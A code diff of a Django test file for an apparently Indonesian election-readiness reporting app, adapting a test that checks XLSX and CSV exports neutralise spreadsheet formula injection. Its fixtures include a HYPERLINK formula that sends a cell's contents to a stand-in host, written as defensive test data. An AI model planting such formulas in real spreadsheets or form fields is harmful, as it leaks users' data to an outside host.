@@ -18,13 +18,15 @@ from regions.models import Region
 from reports.brief.exports import COLUMNS, StaticFilesFetcher, csv_bytes, safe_cell, xlsx
 from reports.brief.letter import indonesian
 from reports.models import FollowUp, ForwardedBrief, RakorSession, ReadinessReport
-from reports.registry import FIELDS_BY_NAME, Kind, Place, of_kind
+from reports.registry import FIELDS_BY_NAME, Kind, Place, fields_of, of_kind, sections_of
 from reports.rollup.summary import summary
 from tests import letters
 
 pytestmark = pytest.mark.django_db
 
-HEADERS = [column.header for column in COLUMNS]
+# The demo's rakor of 18 November asks for the readiness sections: the files show their columns only.
+BEFORE_VOTING = {section.key for section in sections_of(["kampanye"])}
+HEADERS = [column.header for column in COLUMNS if not column.section or column.section in BEFORE_VOTING]
 FORMULAS = (
     '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
     "+1",
@@ -219,27 +221,30 @@ def test_safe_cell_neutralises_formulas_and_keeps_numbers_and_dates(value, writt
     assert safe_cell(value) == written
 
 
-def test_formula_injection_is_neutralised_in_xlsx_and_csv(demo):
-    report = ReadinessReport.objects.get(session=demo, region__name="Paser")
-    for name, value in INJECTIONS.items():
+@pytest.mark.parametrize("day", [dt.date(2024, 11, 18), dt.date(2024, 12, 2)])
+def test_formula_injection_is_neutralised_in_xlsx_and_csv(demo, day):
+    week = RakorSession.objects.get(date=day)
+    asked = fields_of(sections_of(week.stages))
+    injections = {name: value for name, value in INJECTIONS.items() if name in asked}
+    report = ReadinessReport.objects.get(session=week, region__name="Paser")
+    for name, value in injections.items():
         setattr(report, name, value)
     report.save()
-    FollowUp.objects.create(session=demo, title="=1+1", agency="kpu", due_date=dt.date(2024, 11, 25))
+    FollowUp.objects.create(session=week, title="=1+1", agency="kpu", due_date=dt.date(2024, 11, 25))
     with indonesian():
-        result = summary(demo)
+        result = summary(week)
         book, table = workbook(xlsx(result)), csv_bytes(result).decode("utf-8-sig")
 
     assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
     paser = rows_by_region(book.worksheets[0])["Kabupaten Paser"]
-    csv_paser = next(
-        row for row in csv.reader(io.StringIO(table), delimiter=";") if row[1] == "Kabupaten Paser"
-    )
-    for name, value in INJECTIONS.items():
+    csv_rows = list(csv.reader(io.StringIO(table), delimiter=";"))
+    csv_paser = next(row for row in csv_rows if row[1] == "Kabupaten Paser")
+    for name, value in injections.items():
         header = FIELDS_BY_NAME[name].label
         # openpyxl keeps a lone CR when lxml writes the sheet; the standard library's writer makes it LF.
         assert paser[header].value.replace("\r", "\n") == f"'{value}".replace("\r", "\n")
         assert paser[header].data_type == "s"
-        assert csv_paser[HEADERS.index(header)] == f"'{value}"
+        assert csv_paser[csv_rows[0].index(header)] == f"'{value}"
     follow_ups = book["Peringatan dan tindak lanjut"]
     assert "'=1+1" in [row[2].value for row in follow_ups.iter_rows(min_row=2)]
 
